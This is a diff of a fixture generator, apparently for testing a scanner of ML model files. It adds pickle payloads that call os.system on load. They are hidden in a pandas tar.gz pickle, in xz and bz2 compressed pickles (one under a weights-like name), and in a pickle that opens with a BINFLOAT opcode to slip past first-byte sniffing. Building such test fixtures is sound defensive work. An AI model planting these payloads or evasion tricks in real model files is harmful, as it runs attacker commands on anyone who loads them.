@@ -1176,6 +1176,71 @@ def _c10(p: Path) -> None:
     p.write_bytes(buf.getvalue())
 
 
+@fixture(
+    "c11_pandas_tar_gz.pkl.tar.gz",
+    "pickle-tar",
+    "pandas.to_pickle to .pkl.tar.gz (compression 'tar' with gzip): a pickle member of a gzipped tar",
+    "pandas compression={'method': 'tar', 'mode': 'w:gz'} (pandas >= 1.5); issue 11 (tar)",
+    "posix.system",
+    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
+    "fixturegen",
+)
+def _c11(p: Path) -> None:
+    import gzip
+    import tarfile
+
+    import pandas as pd
+
+    inner = io.BytesIO()
+    pd.to_pickle({"frame": pd.DataFrame({"a": [1, 2]}), "hook": Reduce(os.system, SH)}, inner, compression=None)
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as t:
+        info = tarfile.TarInfo("frame.pkl")
+        info.size, info.mtime = len(inner.getvalue()), 1577836800
+        t.addfile(info, io.BytesIO(inner.getvalue()))
+    p.write_bytes(gzip.compress(buf.getvalue(), mtime=0))
+
+
+@fixture(
+    "c12_proto0_xz.pkl.xz",
+    "pickle-xz",
+    "a protocol-0 pickle (no PROTO header) compressed with xz: read_pickle inflates and loads it",
+    "pickle protocol 0 (Lib/pickle.py); pandas.read_pickle infers xz from the name",
+    "os.system",
+    "import pandas, sys\npandas.read_pickle(sys.argv[1])",
+    "fixturegen",
+)
+def _c12() -> bytes:
+    import lzma
+
+    return lzma.compress(b"cos\nsystem\n(S'" + SH.encode() + b"'\ntR.")
+
+
+@fixture(
+    "c13_proto1_bz2.bin",
+    "pickle-bz2",
+    "a protocol-1 pickle compressed with bz2 under a weights name: pickle.load(bz2.open(...))",
+    "pickle protocol 1 (Lib/pickle.py); issue 11 (compressed pickles)",
+    "os.system",
+    "import bz2, pickle, sys\npickle.load(bz2.open(sys.argv[1]))",
+)
+def _c13() -> bytes:
+    import bz2
+
+    return bz2.compress(b"cos\nsystem\nq\x00(X" + struct.pack("<I", len(SH)) + SH.encode() + b"tR.")
+
+
+@fixture(
+    "o15_data_opcode_first.bin",
+    "pickle",
+    "a pickle opening with BINFLOAT (no PROTO, not a protocol-0 first byte) and then a GLOBAL + REDUCE",
+    "Modules/_pickle.c: any opcode may come first; scanners that sniff the first byte skip the file",
+    "os.system",
+)
+def _o15() -> bytes:
+    return b"G" + struct.pack(">d", 1.0) + b"cos\nsystem\n(S'" + SH.encode() + b"'\ntR."
+
+
 # --- Keras: configs that reach gadgets inside keras itself (allowed modules, safe_mode on) ----------
 @fixture(
     "k01_keras_lambda_get_file.keras",
